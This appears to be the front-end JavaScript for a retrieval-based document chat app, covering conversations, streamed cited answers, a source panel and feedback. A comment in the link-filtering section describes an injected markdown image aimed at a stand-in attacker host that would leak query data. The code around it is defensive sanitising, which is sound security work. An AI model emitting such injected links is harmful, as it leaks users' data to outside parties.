// The chat page: conversations, streamed answers with citations, the source panel, feedback.
"use strict";

(() => {
  const {el, icon, api, errorFrom, toast, confirmAction, copyText, fmt, setNav} = Enclave;
  const CITATION = /\[(\d{1,2})\]/g;

  const $ = (id) => document.getElementById(id);
  const chat = $("chat");
  const thread = $("thread");
  const inner = $("thread-inner");
  const welcome = $("welcome");
  const form = $("composer");
  const input = $("question");
  const sendButton = $("send");
  const stopButton = $("stop");
  const statusLine = $("chat-status");
  const panel = $("source-panel");

  let conversationId = chat.dataset.conversation || null;
  let conversations = [];
  let running = null; // {controller, message} while an answer streams
  let panelTrigger = null;

  // -- conversations in the sidebar ----------------------------------------------------------

  function groupOf(updatedAt) {
    const day = 86400;
    const startOfToday = new Date().setHours(0, 0, 0, 0) / 1000;
    if (updatedAt >= startOfToday) return "Today";
    if (updatedAt >= startOfToday - day) return "Yesterday";
    if (updatedAt >= startOfToday - 7 * day) return "Previous 7 days";
    return "Older";
  }

  function renderConversations() {
    const box = $("conversations");
    box.replaceChildren();
    if (!conversations.length) {
      box.append(el("p", {class: "conv-empty", text: "Your conversations will appear here."}));
      return;
    }
    const groups = new Map();
    for (const c of conversations) {
      const name = groupOf(c.updated_at);
      if (!groups.has(name)) groups.set(name, []);
      groups.get(name).push(c);
    }
    for (const [name, items] of groups) {
      const headingId = `group-${name.replace(/\W+/g, "-").toLowerCase()}`;
      const list = el("ul", {class: "conv-list", "aria-labelledby": headingId});
      for (const c of items) list.append(conversationItem(c));
      box.append(el("div", {class: "conv-group"},
        el("h2", {class: "conv-group-title", id: headingId, text: name}), list));
    }
  }

  function conversationItem(c) {
    const active = c.id === conversationId;
    const link = el("a", {
      class: "conv-link", href: `/c/${encodeURIComponent(c.id)}`, text: c.title,
      title: c.title, "aria-current": active ? "page" : null,
      onclick: (event) => {
        if (event.metaKey || event.ctrlKey || event.shiftKey) return;
        event.preventDefault();
        setNav(false);
        openConversation(c.id, true);
      },
    });
    const item = el("li", {class: `conv-item${active ? " active" : ""}`, dataset: {id: c.id}}, link);
    const rename = el("button", {
      class: "icon-btn", type: "button", "aria-label": `Rename “${c.title}”`, title: "Rename",
      onclick: () => startRename(item, c),
    }, icon("pencil", "icon-sm"));
    const remove = el("button", {
      class: "icon-btn", type: "button", "aria-label": `Delete “${c.title}”`, title: "Delete",
      onclick: () => deleteConversation(c),
    }, icon("trash", "icon-sm"));
    item.append(el("div", {class: "conv-tools"}, rename, remove));
    return item;
  }

  function startRename(item, c) {
    const field = el("input", {class: "conv-rename", "aria-label": "Conversation name", maxlength: 80});
    field.value = c.title;
    let done = false;
    const finish = async (save) => {
      if (done) return;
      done = true;
      const title = field.value.trim();
      if (save && title && title !== c.title) {
        try {
          await api(`/api/v1/conversations/${encodeURIComponent(c.id)}`, {method: "PATCH", body: {title}});
          c.title = title;
          if (c.id === conversationId) setTitle(title);
          toast("Conversation renamed");
        } catch (exc) { toast(exc.message); }
      }
      renderConversations();
      document.querySelector(`.conv-item[data-id="${CSS.escape(c.id)}"] .conv-link`)?.focus();
    };
    field.addEventListener("keydown", (event) => {
      if (event.key === "Enter") { event.preventDefault(); finish(true); }
      if (event.key === "Escape") { event.preventDefault(); event.stopPropagation(); finish(false); }
    });
    field.addEventListener("blur", () => finish(true));
    item.replaceChildren(field);
    field.focus();
    field.select();
  }

  async function deleteConversation(c) {
    const ok = await confirmAction("Delete conversation?", `“${c.title}” and its answers will be deleted.`);
    if (!ok) return;
    try {
      await api(`/api/v1/conversations/${encodeURIComponent(c.id)}`, {method: "DELETE"});
    } catch (exc) { toast(exc.message); return; }
    conversations = conversations.filter((x) => x.id !== c.id);
    if (c.id === conversationId) newChat(true);
    renderConversations();
    toast("Conversation deleted");
  }

  async function loadConversations() {
    try {
      conversations = (await api("/api/v1/conversations")).conversations;
    } catch (exc) {
      $("conversations").replaceChildren(el("p", {class: "conv-empty", text: exc.message}));
      return;
    }
    renderConversations();
  }

  // -- opening a conversation ----------------------------------------------------------------

  function setTitle(title) {
    $("chat-title").textContent = title || "New chat";
    document.title = `${title || "Chat"} · Enclave`;
  }

  function clearThread() {
    closePanel(false);
    for (const node of [...inner.children]) if (node !== welcome) node.remove();
  }

  function newChat(push) {
    stop();
    conversationId = null;
    clearThread();
    welcome.hidden = false;
    setTitle("");
    if (push) history.pushState({}, "", "/");
    renderConversations();
    input.focus();
  }

  async function openConversation(id, push) {
    stop();
    let body;
    try {
      body = await api(`/api/v1/conversations/${encodeURIComponent(id)}`);
    } catch (exc) {
      toast(exc.status === 404 ? "That conversation no longer exists." : exc.message);
      newChat(true);
      return;
    }
    conversationId = id;
    if (push) history.pushState({id}, "", `/c/${encodeURIComponent(id)}`);
    clearThread();
    welcome.hidden = body.messages.length > 0;
    setTitle(body.title);
    for (const m of body.messages) {
      if (m.role === "user") addUserMessage(m.content);
      else renderAnswer(addAssistantMessage(), m.answer || {answer: m.content, sources: []}, {
        stopped: m.stopped, messageId: m.id, feedback: m.feedback,
      });
    }
    renderConversations();
    thread.scrollTop = thread.scrollHeight;
  }

  // -- messages ------------------------------------------------------------------------------

  function addUserMessage(text) {
    welcome.hidden = true;
    const node = el("div", {class: "msg msg-user"}, el("div", {class: "bubble", text}));
    inner.append(node);
    return node;
  }

  function addAssistantMessage() {
    const body = el("div", {class: "msg-body"});
    const node = el("article", {class: "msg msg-assistant", "aria-label": "Answer"},
      el("div", {class: "avatar", "aria-hidden": "true"}, icon("logo")), body);
    inner.append(node);
    return node;
  }

  function thinking(message, label) {
    message.querySelector(".msg-body").replaceChildren(el("div", {class: "thinking"},
      el("span", {class: "thinking-dots", "aria-hidden": "true"}, el("span"), el("span"), el("span")),
      label));
  }

  /** Text with its [n] markers as buttons that open source n. */
  // Answers quote untrusted documents: a link or image is shown only for a host the admin
  // allowed (answer_link_hosts, https); any other is reduced to its text, so an injected
  // `![x](http://attacker/?q=...)` fetches nothing and shows no address (service/untrusted.py
  // applies the same rule to the checked answer; this covers the raw streamed text).
  const LINK_HOSTS = new Set((document.body.dataset.linkHosts || "").split(",").filter(Boolean));
  const MD_LINK = /(!?)\[([^\]\n]{0,500})\]\(\s*<?([^\s()<>]*)>?(?:\s+"[^"\n]*")?\s*\)/g;
  // The same forms as service/untrusted.py: scheme:// (or :\\), a fetching scheme without
  // slashes, www., //host, \\host and /\host at a word's start, a bare domain with a path.
  const BARE_URL = new RegExp(
    "(?:[a-z][a-z0-9+.-]{0,31}:[/\\\\]{2}" +
    "|(?<![a-z0-9+.-])(?:https?|ftps?|wss?|file|data|javascript|vbscript|blob):" +
    "|(?<![a-z0-9])www\\." +
    "|(?<![^\\s=(\"'<>\\[\\]])[/\\\\]{2}(?=[^\\s/\\\\<>()\\[\\]\"'])" +
    "|(?<![a-z0-9.-])(?:[a-z0-9-]{1,63}\\.)+[a-z]{2,63}(?=/|\\?|:\\d))" +
    "[^\\s<>()\\[\\]\"']+", "gi");
  const LINK_REMOVED = "[link removed]";

  function allowedUrl(url) {
    if (/[\\\s\u0000-\u001f\u007f]/.test(url)) return false;  // browsers reinterpret these
    try {
      const parsed = new URL(url);
      return parsed.protocol === "https:" && LINK_HOSTS.has(parsed.hostname);
    } catch (_) { return false; }
  }

  /** Text and allowed links/images of an answer, in order (strings are plain text). */
  function linkParts(text) {
    const parts = [];
    const bare = (chunk) => {
      let last = 0;
      for (const m of chunk.matchAll(BARE_URL)) {
        parts.push(chunk.slice(last, m.index));
        parts.push(allowedUrl(m[0])
          ? el("a", {href: m[0], rel: "noopener noreferrer nofollow", target: "_blank", text: m[0]})
          : LINK_REMOVED);
        last = m.index + m[0].length;
      }
      parts.push(chunk.slice(last));
    };
    let last = 0;
    for (const m of text.matchAll(MD_LINK)) {
      bare(text.slice(last, m.index));
      const [, image, rawLabel, target] = m;
      const label = rawLabel.trim().replace(BARE_URL, LINK_REMOVED);
      if (allowedUrl(target)) {
        parts.push(image
          ? el("img", {class: "answer-img", src: target, alt: label, referrerpolicy: "no-referrer"})
          : el("a", {href: target, rel: "noopener noreferrer nofollow", target: "_blank", text: label || target}));
      } else if (image) {
        parts.push(label ? `[image: ${label}]` : "[image removed]");
      } else {
        parts.push(label || LINK_REMOVED);
      }
      last = m.index + m[0].length;
    }
    bare(text.slice(last));
    return parts;
  }

  function answerText(text, answer, message) {
    const node = el("div", {class: "answer-text"});
    const count = (answer.sources || []).length;
    for (const part of linkParts(text)) {
      if (typeof part !== "string") { node.append(part); continue; }
      let last = 0;
      for (const match of part.matchAll(CITATION)) {
        const n = Number(match[1]);
        if (n < 1 || n > count) continue;
        node.append(part.slice(last, match.index));
        const source = answer.sources[n - 1];
        node.append(el("button", {
          class: "cite", type: "button", text: String(n), dataset: {n},
          "aria-label": `Source ${n}: ${source.title || fileName(source.path)}`,
          onclick: (event) => openSource(message, n, event.currentTarget),
        }));
        last = match.index + match[0].length;
      }
      node.append(part.slice(last));
    }
    return node;
  }

  function fileName(path) {
    return (path || "").split(/[\\/]/).pop().replace(/^[0-9a-f]{16}-/, "");
  }

  function sourceCards(answer, message) {
    const cited = new Set(answer.citations || []);
    const cards = el("div", {class: "source-cards"});
    for (const s of answer.sources) {
      // Several passages often come from one document: the card shows which words it holds,
      // from the sentence that supports the answer when there is one.
      const [start, end] = spansFor(answer, s.n)[0] || [0, s.text.length];
      const words = s.text.slice(start, end).replace(/\s+/g, " ").trim();
      const snippet = words.length > 90 ? `${words.slice(0, 90).trimEnd()}…` : words;
      const meta = [s.page ? `p. ${s.page}` : null, `“${snippet}”`].filter(Boolean).join(" · ");
      cards.append(el("button", {
        class: `source-card ${cited.has(s.n) ? "cited" : "uncited"}`, type: "button",
        dataset: {n: s.n}, "aria-label": `Open source ${s.n}: ${s.title || fileName(s.path)}`,
        title: `${fileName(s.path)}${s.page ? `, page ${s.page}` : ""}`,
        onclick: (event) => openSource(message, s.n, event.currentTarget),
      },
      el("span", {class: "source-num", text: String(s.n)}),
      el("span", {class: "source-card-text"},
        el("span", {class: "source-card-title", text: s.title || fileName(s.path)}),
        el("span", {class: "source-card-meta", text: meta}))));
    }
    return cards;
  }

  /** The whole answer: text (or the "not in the documents" card), notes, sources, actions. */
  function renderAnswer(message, answer, {stopped = false, messageId = null, feedback = null} = {}) {
    message.classList.remove("streaming");
    message.answer = answer;
    const body = message.querySelector(".msg-body");
    const parts = [];
    if (answer.abstained) {
      parts.push(el("div", {class: "abstain", role: "note"},
        el("div", {class: "abstain-head"}, icon("notfound", "icon-sm"), "Not in the documents"),
        answerText(answer.answer, answer, message),
        el("p", {class: "abstain-hint", text: answer.sources.length
          ? "The closest passages are listed below; none of them answers the question."
          : "Nothing in the library matched this question."})));
    } else if (answer.answer) {
      parts.push(answerText(answer.answer, answer, message));
    } else if (stopped) {
      parts.push(el("p", {class: "answer-text", text: "(stopped before any text)"}));
    }
    const notes = [];
    if (stopped) notes.push(el("span", {class: "note note-warn"}, icon("stop", "icon-sm"), "Stopped"));
    if (answer.answer_mode === "extractive" && !answer.abstained) {
      notes.push(el("span", {class: "note"}, icon("quote", "icon-sm"), "Quoted from the sources"));
    }
    if (answer.unsupported_sentences_removed > 0) {
      const n = answer.unsupported_sentences_removed;
      notes.push(el("span", {class: "note note-warn", title: "The model wrote it, but no source supports it."},
        icon("alert", "icon-sm"), `${n} unsupported sentence${n > 1 ? "s" : ""} removed`));
    }
    if (notes.length) parts.push(el("div", {class: "notes"}, notes));
    if (answer.sources && answer.sources.length) {
      parts.push(el("h3", {class: "sources-label", text: answer.abstained ? "Closest passages" : "Sources"}));
      parts.push(sourceCards(answer, message));
    }
    parts.push(actions(message, answer, messageId, feedback));
    body.replaceChildren(...parts);
  }

  function plainAnswer(answer) {
    const lines = [answer.answer];
    if (answer.sources && answer.sources.length) {
      lines.push("", "Sources:");
      for (const s of answer.sources) {
        lines.push(`[${s.n}] ${s.title || fileName(s.path)}${s.page ? `, page ${s.page}` : ""} (${fileName(s.path)})`);
      }
    }
    return lines.join("\n");
  }

  function actions(message, answer, messageId, feedback) {
    const bar = el("div", {class: "msg-actions"});
    const copy = el("button", {
      class: "icon-btn", type: "button", "aria-label": "Copy answer", title: "Copy answer",
      onclick: async () => {
        await copyText(plainAnswer(answer));
        copy.replaceChildren(icon("check"));
        toast("Answer copied");
        setTimeout(() => copy.replaceChildren(icon("copy")), 1500);
      },
    }, icon("copy"));
    bar.append(copy);
    if (messageId) {
      const up = el("button", {class: "icon-btn", type: "button", "aria-label": "Good answer",
        title: "Good answer", "aria-pressed": String(feedback?.rating === "up")}, icon("up"));
      const down = el("button", {class: "icon-btn", type: "button", "aria-label": "Bad answer",
        title: "Bad answer", "aria-pressed": String(feedback?.rating === "down")}, icon("down"));
      up.addEventListener("click", () => rate(message, messageId, "up", up, down));
      down.addEventListener("click", () => rate(message, messageId, "down", up, down));
      bar.append(up, down);
    }
    const t = answer.timings || {};
    const seconds = ((t.retrieve_ms || 0) + (t.queue_ms || 0) + (t.generate_ms || 0)) / 1000;
    const count = (answer.sources || []).length;
    if (count || seconds) {
      const bits = [];
      if (count) bits.push(`${count} source${count > 1 ? "s" : ""}`);
      if (seconds) bits.push(seconds < 0.1 ? "under 0.1 s" : `${seconds.toFixed(1)} s`);
      bar.append(el("span", {class: "meta", text: bits.join(" · ")}));
    }
    return bar;
  }

  async function rate(message, messageId, rating, up, down) {
    try {
      await api("/api/v1/feedback", {method: "POST", body: {message_id: messageId, rating}});
    } catch (exc) { toast(exc.message); return; }
    up.setAttribute("aria-pressed", String(rating === "up"));
    down.setAttribute("aria-pressed", String(rating === "down"));
    message.querySelector(".feedback-form")?.remove();
    const field = el("textarea", {id: `comment-${messageId}`, maxlength: 2000,
      placeholder: rating === "up" ? "What was helpful? (optional)" : "What was wrong or missing? (optional)"});
    const box = el("form", {class: "feedback-form"},
      el("label", {class: "visually-hidden", for: `comment-${messageId}`, text: "Comment on this answer"}),
      field,
      el("div", {class: "row"},
        el("button", {class: "btn btn-primary btn-sm", type: "submit", text: "Send feedback"}),
        el("button", {class: "btn btn-ghost btn-sm", type: "button", text: "Skip",
          onclick: () => { box.remove(); toast("Thanks for the feedback"); }})));
    box.addEventListener("submit", async (event) => {
      event.preventDefault();
      try {
        await api("/api/v1/feedback", {method: "POST",
          body: {message_id: messageId, rating, comment: field.value}});
      } catch (exc) { toast(exc.message); return; }
      box.remove();
      toast("Thanks for the feedback");
    });
    message.querySelector(".msg-body").append(box);
    field.focus();
  }

  function showError(message, exc, question) {
    message.classList.remove("streaming");
    let text = exc.message;
    if (exc.code === "busy") {
      text = `Enclave is busy answering other questions. Try again in ${exc.retryAfter || "a few"} seconds.`;
    } else if (exc.code === "not_ready") {
      text = "The model is still loading. Try again in a few seconds.";
    }
    message.querySelector(".msg-body").replaceChildren(el("div", {class: "error-box", role: "alert"},
      icon("alert", "icon-sm"), el("span", {text}),
      el("button", {class: "btn btn-sm", type: "button", text: "Retry",
        onclick: () => { message.remove(); ask(question, true); }})));
  }

  // -- asking --------------------------------------------------------------------------------

  function nearBottom() {
    return thread.scrollHeight - thread.scrollTop - thread.clientHeight < 120;
  }

  function follow(wasNear) {
    if (wasNear) thread.scrollTop = thread.scrollHeight;
  }

  function setRunning(value) {
    running = value;
    sendButton.hidden = Boolean(value);
    stopButton.hidden = !value;
    updateSend();
  }

  function updateSend() {
    sendButton.disabled = !input.value.trim() || Boolean(running);
  }

  /** Split a fetched event stream into {event, data} objects. */
  async function* events(response) {
    const reader = response.body.getReader();
    const decoder = new TextDecoder();
    let buffer = "";
    for (;;) {
      const {value, done} = await reader.read();
      if (done) break;
      buffer += decoder.decode(value, {stream: true});
      let cut;
      while ((cut = buffer.indexOf("\n\n")) >= 0) {
        const block = buffer.slice(0, cut);
        buffer = buffer.slice(cut + 2);
        let event = "message";
        const data = [];
        for (const line of block.split("\n")) {
          if (line.startsWith("event: ")) event = line.slice(7);
          else if (line.startsWith("data: ")) data.push(line.slice(6));
        }
        if (data.length) yield {event, data: JSON.parse(data.join("\n"))};
      }
    }
  }

  async function ensureConversation() {
    if (conversationId) return conversationId;
    const created = await api("/api/v1/conversations", {method: "POST", body: {}});
    conversationId = created.id;
    conversations.unshift({...created, messages: 0});
    history.pushState({id: created.id}, "", `/c/${encodeURIComponent(created.id)}`);
    renderConversations();
    return conversationId;
  }

  async function ask(question, isRetry = false) {
    if (!isRetry) addUserMessage(question);
    const message = addAssistantMessage();
    message.classList.add("streaming");
    thinking(message, "Searching your documents…");
    thread.scrollTop = thread.scrollHeight;
    const controller = new AbortController();
    setRunning({controller, message});
    statusLine.textContent = "Searching the documents.";
    const partial = {answer: "", sources: [], abstained: false};
    try {
      const id = await ensureConversation();
      const response = await fetch("/api/v1/ask", {
        method: "POST", signal: controller.signal,
        headers: {"Content-Type": "application/json", Accept: "text/event-stream"},
        body: JSON.stringify({question, conversation_id: id, stream: true}),
      });
      if (!response.ok) throw await errorFrom(response);
      let textNode = null;
      for await (const {event, data} of events(response)) {
        const wasNear = nearBottom();
        if (event === "sources") {
          partial.sources = data;
          thinking(message, data.length ? `Reading ${data.length} passage${data.length > 1 ? "s" : ""}…` : "Checking…");
          statusLine.textContent = "Writing the answer.";
        } else if (event === "token") {
          partial.answer += data.text;
          message.answer = partial;
          // Raw model text, shown as it comes; the checked answer replaces it at the end.
          textNode = answerText(partial.answer.trimStart(), partial, message);
          message.querySelector(".msg-body").replaceChildren(textNode);
        } else if (event === "done") {
          renderAnswer(message, data, {messageId: data.message_id});
          statusLine.textContent = data.abstained
            ? "Answer: not in the documents."
            : `Answer ready, with ${data.sources.length} sources.`;
        } else if (event === "error") {
          throw new Enclave.ApiError(500, data.error.code, data.error.message);
        }
        follow(wasNear);
      }
      if (message.classList.contains("streaming")) throw new Error("The answer was cut off.");
    } catch (exc) {
      if (exc.name === "AbortError") {
        renderAnswer(message, partial, {stopped: true});
        statusLine.textContent = "Stopped.";
      } else {
        showError(message, exc, question);
        statusLine.textContent = `Error: ${exc.message}`;
      }
    } finally {
      setRunning(null);
      refreshConversation();
    }
  }

  async function refreshConversation() {
    await loadConversations();
    const current = conversations.find((c) => c.id === conversationId);
    if (current) setTitle(current.title);
  }

  function stop() {
    if (running) running.controller.abort();
  }

  // -- the source panel ----------------------------------------------------------------------

  /** Merged, clamped [start, end) spans of the sentences that support the answer. */
  function spansFor(answer, n) {
    const text = answer.sources[n - 1].text;
    const spans = (answer.supports || [])
      .filter((s) => s.n === n && s.end > s.start)
      .map((s) => [Math.max(0, s.start), Math.min(text.length, s.end)])
      .sort((a, b) => a[0] - b[0]);
    const merged = [];
    for (const span of spans) {
      const last = merged[merged.length - 1];
      if (last && span[0] <= last[1]) last[1] = Math.max(last[1], span[1]);
      else merged.push(span);
    }
    return merged;
  }

  function openSource(message, n, trigger) {
    const data = message.answer || {sources: [], supports: []};
    const source = data.sources[n - 1];
    if (!source) return;
    document.querySelectorAll(".cite.selected, .source-card.selected").forEach((x) => x.classList.remove("selected"));
    message.querySelectorAll(`[data-n="${n}"]`).forEach((x) => x.classList.add("selected"));
    panelTrigger = trigger;

    $("panel-eyebrow").textContent = `Source ${n} of ${data.sources.length}`;
    $("panel-title").textContent = source.title || fileName(source.path);
    const meta = $("panel-meta");
    meta.replaceChildren();
    const row = (label, value) => { if (value) meta.append(el("dt", {text: label}), el("dd", {text: value})); };
    row("File", fileName(source.path));
    row("Page", source.page ? String(source.page) : null);
    row("Location", source.path);

    const link = $("panel-open");
    const isPdf = /\.pdf$/i.test(source.path);
    link.href = `/api/v1/documents/${encodeURIComponent(source.document_id)}/file${isPdf && source.page ? `#page=${source.page}` : ""}`;
    link.querySelector("span").textContent = isPdf && source.page ? `Open original at page ${source.page}` : "Open original";

    const passage = $("panel-passage");
    passage.replaceChildren();
    const spans = spansFor(data, n);
    let at = 0;
    for (const [start, end] of spans) {
      passage.append(source.text.slice(at, start), el("mark", {text: source.text.slice(start, end)}));
      at = end;
    }
    passage.append(source.text.slice(at));
    const note = $("panel-note");
    if (spans.length) {
      note.replaceChildren(el("span", {class: "legend-swatch", "aria-hidden": "true"}),
        `Highlighted: the ${spans.length > 1 ? "sentences" : "sentence"} supporting the answer.`);
    } else if (data.abstained) {
      note.replaceChildren("The closest passage found. It does not answer the question.");
    } else {
      note.replaceChildren("Given to the model as context; no sentence of the answer relies on it.");
    }
    panel.hidden = false;
    $("panel-title").focus({preventScroll: true});
    passage.querySelector("mark")?.scrollIntoView({block: "center"});
  }

  function closePanel(restoreFocus = true) {
    if (panel.hidden) return;
    panel.hidden = true;
    document.querySelectorAll(".cite.selected, .source-card.selected").forEach((x) => x.classList.remove("selected"));
    if (restoreFocus && panelTrigger && document.contains(panelTrigger)) panelTrigger.focus();
    panelTrigger = null;
  }

  // -- wiring --------------------------------------------------------------------------------

  function autosize() {
    input.style.height = "auto";
    input.style.height = `${Math.min(input.scrollHeight, 200)}px`;
  }

  form.addEventListener("submit", (event) => {
    event.preventDefault();
    const question = input.value.trim();
    if (!question || running) return;
    input.value = "";
    autosize();
    updateSend();
    ask(question);
  });
  input.addEventListener("keydown", (event) => {
    if (event.key === "Enter" && !event.shiftKey && !event.isComposing) {
      event.preventDefault();
      form.requestSubmit();
    }
  });
  input.addEventListener("input", () => { autosize(); updateSend(); });
  stopButton.addEventListener("click", () => { stop(); input.focus(); });
  $("panel-close").addEventListener("click", () => closePanel());
  document.addEventListener("keydown", (event) => {
    if (event.key === "Escape" && !panel.hidden && !document.querySelector("dialog[open]")) closePanel();
  });
  for (const id of ["new-chat", "new-chat-top"]) {
    $(id).addEventListener("click", (event) => {
      if (event.metaKey || event.ctrlKey) return;
      event.preventDefault();
      setNav(false);
      newChat(true);
    });
  }
  window.addEventListener("popstate", () => {
    const match = location.pathname.match(/^\/c\/([^/]+)$/);
    if (match) openConversation(decodeURIComponent(match[1]), false);
    else newChat(false);
  });

  (async () => {
    await loadConversations();
    if (conversationId) await openConversation(conversationId, false);
    try {
      const health = await api("/api/v1/health");
      if (health.documents) $("library-line").textContent =
        `Searching ${fmt(health.documents.indexed)} documents · ${fmt(health.chunks)} passages`;
    } catch (_) { /* the sidebar shows the server's state */ }
    // Focus the question box, except on touch screens, where it would pop the keyboard up.
    if (!matchMedia("(pointer: coarse)").matches) input.focus();
  })();
})();
